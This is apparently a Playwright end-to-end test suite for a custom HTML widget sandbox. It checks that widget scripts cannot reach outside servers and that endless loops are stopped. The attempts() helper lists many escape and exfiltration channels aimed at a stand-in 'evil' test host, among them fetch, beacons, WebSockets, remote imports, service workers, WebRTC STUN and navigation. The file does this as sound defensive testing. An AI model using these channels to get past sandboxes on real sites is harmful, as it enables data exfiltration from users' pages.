import { type Browser, chromium } from "@playwright/test";
import { expect, type Page, test } from "../fixtures.ts";
import { ForbiddenServer } from "../harness/forbidden-server.ts";
import type { Session } from "../harness/session.ts";

type Setup = { page: Page; juno: Session; channelId: string };
type Widget = { id: string; name: string };

async function create({ juno, channelId }: Setup, name: string, script: string): Promise<Widget> {
  const settings = { html: "<b>custom</b>", script };
  return juno.post<Widget>(`/channels/${channelId}/widgets`, { name, type: "custom_html", settings });
}

async function addressOf({ juno, channelId }: Setup, { id }: Widget): Promise<string> {
  return (await juno.get<{ path: string }>(`/channels/${channelId}/widgets/${id}/key`)).path;
}

/** Script that tries each kind of request to another server; at the first activity it tries to navigate there. */
function attempts({ host, stun }: ForbiddenServer): string {
  const evil = `http://${host}`;
  const link = (rel: string, more = "") => `<link rel="${rel}" href="${evil}/${rel}" ${more}>`;
  const peer = `const peer = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));`;
  const markup = [
    ...["preconnect", "dns-prefetch", "prefetch", "prerender", "manifest", "icon", "stylesheet"].map((rel) =>
      link(rel),
    ),
    link("preload", 'as="image"'),
    `<iframe src="${evil}/frame"></iframe>`,
    `<object data="${evil}/object"></object>`,
    `<video src="${evil}/video"></video>`,
  ];
  const code = [
    `fetch("${evil}/fetch")`,
    `navigator.sendBeacon("${evil}/beacon", "x")`,
    `new WebSocket("ws://${host}/socket")`,
    `new EventSource("${evil}/events")`,
    `new Image().src = "${evil}/image"`,
    `import("${evil}/module.js")`,
    `new Worker(URL.createObjectURL(new Blob(['fetch("${evil}/worker")'])))`,
    `navigator.serviceWorker.register("${evil}/service-worker.js")`,
    `window.open("${evil}/window")`,
    `top.location.href = "${evil}/top"`,
    peer,
  ];
  const leave = `
    document.body.insertAdjacentHTML("beforeend", '<a href="${evil}/link" ping="${evil}/ping"></a><form action="${evil}/form"></form><meta http-equiv="refresh" content="0;url=${evil}/refresh">');
    document.forms[0].submit();
    document.querySelector("a").click();
    location.href = "${evil}/leave";
  `;
  const added = markup.map((html) => `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)})`);
  const tries = [...added, ...code].map((attempt) => JSON.stringify(attempt));
  return `
    addEventListener("unhandledrejection", (event) => event.preventDefault());
    let refused = 0;
    for (const attempt of [${tries.join(",\n")}]) {
      const script = document.createElement("script");
      script.textContent = "try { " + attempt + " } catch (error) { refused += 1 }";
      document.head.append(script);
    }
    greenroom.on("activity", () => { ${leave} });
    document.body.append("tried " + document.head.querySelectorAll("script").length, " peers: " + typeof RTCPeerConnection);
  `;
}

async function reachNothing(setup: Setup) {
  const outside = await ForbiddenServer.open();
  const widget = await create(setup, "Attacks", attempts(outside));
  await setup.page.goto(await addressOf(setup, widget));
  const frame = setup.page.frameLocator("iframe.custom");
  await expect(frame.getByText(/tried \d+/)).toContainText("peers: undefined");
  await setup.juno.post(`/channels/${setup.channelId}/widgets/${widget.id}/test`, { name: "raid" });
  await expect(frame.getByText(/tried/)).toHaveCount(0);
  await fetch(`http://${outside.host}/control`, { signal: AbortSignal.timeout(2_000) }).catch(() => undefined);
  expect(outside.reached).toEqual(["connection", "GET /control HTTP/1.1"]);
  outside.close();
}

const ENDLESS_LOOP = "document.body.append('running'); while (true) {}";
const STOPPED = "This HTML stopped answering. Change it, then run it again.";
const ISOLATION_FLAG = "--site-per-process";

/** A separate browser, whose pages may hang; the user is signed in there. */
async function openBrowser({ juno }: Setup, url: string, ...flags: string[]) {
  const browser = await chromium.launch({
    executablePath: String(process.env["CHROME_PATH"]),
    args: ["--no-sandbox", "--disable-gpu", ...flags],
  });
  const context = await browser.newContext({ baseURL: url, viewport: { width: 1440, height: 900 } });
  await context.addInitScript((token) => {
    if (window.origin !== "null") localStorage.setItem("greenroom.token", token);
  }, juno.token);
  return { browser, context };
}

const editorOf = ({ channelId }: Setup, { id }: Widget) => `/channels/${channelId}/widgets/${id}`;

/** Expects that endless code in a process of its own is stopped, and that page and editor stay usable. */
async function stopIsolated(setup: Setup, url: string) {
  const widget = await create(setup, "For ever", ENDLESS_LOOP);
  const { browser, context } = await openBrowser(setup, url, ISOLATION_FLAG);
  const source = await context.newPage();
  await source.goto(await addressOf(setup, widget));
  await expect(source.locator("iframe.custom")).toHaveCount(1);
  await expect(source.locator("iframe.custom")).toHaveCount(0);
  await expect(source.locator("#widget")).toBeEmpty();
  const editor = await context.newPage();
  await editor.goto(editorOf(setup, widget));
  await expect(editor.getByText(STOPPED)).toBeVisible();
  // A reloaded editor runs the code only after it is changed and "Run again" is clicked.
  await editor.reload();
  await expect(editor.getByText(STOPPED)).toBeVisible();
  await expect(editor.frameLocator("iframe[title^='Preview of']").locator("iframe.custom")).toHaveCount(0);
  await editor.getByRole("textbox", { name: "JavaScript" }).fill("document.body.append('quiet')");
  await editor.getByRole("button", { name: "Run again" }).click();
  const own = editor.frameLocator("iframe[title^='Preview of']").frameLocator("iframe.custom");
  await expect(own.getByText("quiet")).toBeVisible();
  await browser.close();
}

/** Expects that code which blocks its page is stored as stopped, so that the next page does not run it. */
async function rememberBlocking(setup: Setup, url: string) {
  const widget = await create(setup, "Blocks", ENDLESS_LOOP);
  const { browser, context } = await openBrowser(setup, url);
  const other = await context.newPage();
  await other.goto("/widget/none");
  const source = await context.newPage();
  void source.goto(await addressOf(setup, widget)).catch(() => undefined);
  await expect.poll(() => stoppedCode(other, widget)).toContain("while (true)");
  // Otherwise the code would run until the browser is closed.
  await source.close();
  await openBlocked(setup, browser, other, widget);
}

async function openBlocked(setup: Setup, browser: Browser, page: Page, widget: Widget) {
  await page.goto(editorOf(setup, widget));
  await expect(page.getByText(STOPPED)).toBeVisible();
  await page.goto(await addressOf(setup, widget));
  await expect(page.locator("#widget[data-type='custom_html']")).toBeEmpty();
  await browser.close();
}

/** The code of the widget that is stored as stopped; empty if there is none. */
async function stoppedCode(page: Page, { id }: Widget): Promise<string> {
  return page.evaluate(
    (widgetId) =>
      new Promise<string>((resolve) => {
        const opening = indexedDB.open("greenroom-widgets", 1);
        opening.onupgradeneeded = () => opening.result.createObjectStore("stopped");
        opening.onsuccess = () => {
          const reading = opening.result.transaction("stopped").objectStore("stopped").get(widgetId);
          reading.onsuccess = () => {
            opening.result.close();
            resolve(String(reading.result ?? ""));
          };
        };
      }),
    id,
  );
}

test("custom code reaches no other server, and endless code is stopped", async ({ page, openAs, installation }) => {
  const juno = await openAs(page, "junoplays");
  const { id: channelId } = await juno.post<{ id: string }>("/channels", { display_name: "Late Shift" });
  const setup = { page, juno, channelId };
  await test.step("no request of custom code reaches another server [P7]", () => reachNothing(setup));
  await test.step("endless code is removed on stream and in the editor [P7]", () =>
    stopIsolated(setup, installation.url));
  await test.step("code that blocked the browser is not run again [P7]", () =>
    rememberBlocking(setup, installation.url));
});
